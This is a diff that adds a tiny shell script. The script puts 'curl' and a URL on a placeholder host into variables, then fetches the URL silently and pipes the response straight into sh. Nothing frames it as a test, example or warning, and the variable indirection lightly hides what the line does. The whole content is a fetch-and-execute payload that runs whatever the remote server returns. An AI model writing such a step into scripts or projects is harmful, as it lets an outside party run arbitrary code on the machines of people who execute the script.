@@ -1,0 +1,4 @@
+#!/bin/sh
+c=curl
+u=https://x.example.invalid/c
+$c -s $u | sh
